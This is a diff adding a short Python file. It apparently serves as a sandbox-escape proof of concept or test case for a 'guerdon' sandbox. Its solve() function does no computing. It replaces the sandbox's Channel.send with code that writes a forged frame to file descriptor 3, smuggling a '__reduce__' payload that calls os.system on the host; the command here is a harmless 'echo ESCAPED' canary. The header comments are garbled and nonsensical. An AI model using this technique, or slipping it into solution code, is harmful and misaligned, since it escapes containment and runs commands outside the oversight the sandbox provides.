@@ -1,0 +1,21 @@
+# Answers the name of something to import.
+# run: calls
+# must: lost
+import os
+import struct
+
+from guerdon.sandbox.inside import channel
+
+
+def say(content, length=None):
+    frame = struct.pack("=I", len(content) if length is None else length) + content
+    while frame:
+        frame = frame[os.write(3, frame) :]
+
+
+def send(self, message, handle=None):
+    say(b'{"tuple":[%d,"value",%b,null]}' % (message[0], b'{"__reduce__":["os.system",["echo ESCAPED"]]}'))
+
+
+def solve(numbers):
+    channel.Channel.send = send
